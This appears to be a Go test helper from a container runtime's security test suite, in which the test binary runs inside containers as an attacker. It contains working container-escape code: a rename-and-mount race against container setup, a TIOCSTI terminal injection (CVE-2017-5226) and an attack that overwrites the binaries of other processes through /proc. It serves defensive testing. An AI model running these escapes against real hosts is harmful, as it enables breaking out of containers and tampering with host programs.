package attack

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"unsafe"

	specs "github.com/opencontainers/runtime-spec/specs-go"
	"golang.org/x/sys/unix"

	. "tare/internal/testutil"
)

// The test binary is its own attacker: hostile puts it into a container, where TestMain gives it a role in place of
// the tests.

const attackerPath = "/attacker"

// hostile has a container run this test binary in a role. Its arguments are words of the role.
func hostile(t *testing.T, role string, args ...string) Edit {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	if dynamic(t, self) {
		t.Skip("this test binary needs shared libraries, which a container has not got: build it with CGO_ENABLED=0")
	}
	return func(s *specs.Spec) {
		BindMount(self, attackerPath, "bind", "ro")(s)
		s.Process.Args = append([]string{attackerPath}, args...)
		s.Process.Env = append(s.Process.Env, "TARE_ATTACKER="+role)
	}
}

func dynamic(t *testing.T, path string) bool {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return strings.Contains(string(data[:min(len(data), 8192)]), "/ld-linux") || strings.Contains(string(data[:min(len(data), 8192)]), "/ld-musl")
}

func attacker(role string) {
	switch role {
	case "mount storm":
		mountStorm(os.Args[1])
	case "inject":
		inject()
	case "unlock":
		unlock()
	case "rewrite":
		rewriteExe()
	case "thief":
		runtime.LockOSThread() // ptrace goes by thread
		thief()
	}
	os.Exit(2)
}

// mountStorm plays with a volume that it shares with containers being made: it exchanges directories with links out
// of it, and mounts over what those containers may be about to use.
func mountStorm(volume string) {
	x, y := filepath.Join(volume, "x"), filepath.Join(volume, "y")
	proc := filepath.Join(volume, "rootfs/proc")
	fmt.Println("ready")
	for {
		for range 50 {
			_ = unix.Renameat2(unix.AT_FDCWD, x, unix.AT_FDCWD, y, unix.RENAME_EXCHANGE)
		}
		for _, target := range []string{filepath.Join(volume, "z"), filepath.Join(volume, "z/sub"), proc} {
			if unix.Mount("storm", target, "tmpfs", 0, "") != nil {
				continue
			}
			fake := filepath.Join(target, "sys/kernel")
			_ = os.MkdirAll(fake, 0o755)
			_ = os.WriteFile(filepath.Join(fake, "domainname"), nil, 0o644)
			_ = os.MkdirAll(filepath.Join(target, "self/attr"), 0o755)
			_ = unix.Mount("/etc", filepath.Join(target, "self/attr"), "", unix.MS_BIND, "")
			for range 20 {
				_ = unix.Renameat2(unix.AT_FDCWD, x, unix.AT_FDCWD, y, unix.RENAME_EXCHANGE)
			}
			if text, _ := os.ReadFile(filepath.Join(fake, "domainname")); len(text) > 0 {
				fmt.Printf("caught %q\n", text) // a write that was meant for a sysctl
			}
			for unix.Unmount(filepath.Join(target, "self/attr"), unix.MNT_DETACH) == nil {
			}
			_ = unix.Unmount(target, unix.MNT_DETACH)
		}
	}
}

// inject pushes a command into the terminal that it has as standard input (CVE-2017-5226).
func inject() {
	for _, b := range []byte("touch /pwned\n") {
		_, _, errno := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&b)))
		if errno != 0 {
			fmt.Println(unix.ErrnoName(errno))
			os.Exit(0)
		}
	}
	fmt.Println("injected")
	os.Exit(0)
}

// rewriteExe gets hold of the program of every process that comes, makes it writable if it can, and writes to it while
// it runs, and after.
func rewriteExe() {
	held := map[string]int{}
	fmt.Println("ready")
	for {
		dirs, _ := filepath.Glob("/proc/[0-9]*")
		for _, dir := range dirs {
			target, err := os.Readlink(dir + "/exe")
			if err != nil || strings.HasPrefix(target, attackerPath) || strings.HasPrefix(target, "/probe") {
				continue
			}
			fd, err := unix.Open(dir+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			var st unix.Stat_t
			_ = unix.Fstat(fd, &st)
			key := fmt.Sprint(st.Dev, st.Ino)
			if _, known := held[key]; known || len(held) > 100 {
				unix.Close(fd)
				continue
			}
			held[key] = fd
			fmt.Println("held", target)
		}
		for _, fd := range held {
			path := fmt.Sprintf("/proc/self/fd/%d", fd)
			_ = unix.Chmod(path, 0o777)
			_ = unix.Mount("", path, "", unix.MS_REMOUNT|unix.MS_BIND, "")
			if w, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
				_, _ = unix.Write(w, []byte("#!/bin/sh\nowned\n"))
				unix.Close(w)
			}
		}
	}
}

// start runs a container detached, and waits for it to say "ready". The function gives what it has printed.
func start(t *testing.T, c *Container) (pid int, output func() string) {
	t.Helper()
	out, err := os.Create(filepath.Join(c.Dir, "out"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { out.Close() })
	output = func() string {
		data, err := os.ReadFile(out.Name())
		if err != nil {
			t.Fatal(err)
		}
		return string(data)
	}
	cmd := c.Command("run", "--detach", "--bundle", c.Dir, "--pid-file", c.Dir+"/pid", c.ID)
	cmd.Stdout, cmd.Stderr = out, out
	if res := c.Do(cmd); res.Code != 0 {
		t.Fatalf("%v: exit code %d: %s", res.Args, res.Code, output())
	}
	pid = c.PidFile(c.Dir + "/pid")
	Eventually(t, "the container", func() bool { return strings.Contains(output(), "ready") })
	return pid, output
}

// inMountNamespace runs the calling test once more, by a process in a mount namespace of its own whose mounts are all
// private or all shared, and there calls body.
func inMountNamespace(t *testing.T, propagation uintptr, body func()) {
	t.Helper()
	NeedRoot(t)
	const inside = "TARE_ATTACK_INSIDE"
	if os.Getenv(inside) == t.Name() {
		// A mount namespace is made private first: what is mounted here is nobody's business outside.
		if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
			t.Fatal(err)
		}
		if err := unix.Mount("", "/", "", unix.MS_REC|propagation, ""); err != nil {
			t.Fatal(err)
		}
		body()
		return
	}
	cmd := exec.Command("/proc/self/exe", "-test.v", "-test.run", "^"+strings.ReplaceAll(t.Name(), "/", "$/^")+"$")
	cmd.Dir = "."
	cmd.Env = append(os.Environ(), inside+"="+t.Name(), "TARE="+Runtime(), "TARE_PROBE="+Probe())
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWNS, Pdeathsig: syscall.SIGKILL}
	res := Do(t, cmd)
	if res.Code != 0 || strings.Contains(res.Stdout, "no tests to run") {
		t.Errorf("in the mount namespace: exit code %d\n%s%s", res.Code, res.Stdout, res.Stderr)
	} else {
		t.Log(res.Stdout)
	}
}

func nsPath(pid int, kind specs.LinuxNamespaceType) string {
	name := map[specs.LinuxNamespaceType]string{
		specs.PIDNamespace: "pid", specs.NetworkNamespace: "net", specs.IPCNamespace: "ipc", specs.UserNamespace: "user",
		specs.UTSNamespace: "uts", specs.MountNamespace: "mnt",
	}[kind]
	return fmt.Sprintf("/proc/%d/ns/%s", pid, name)
}
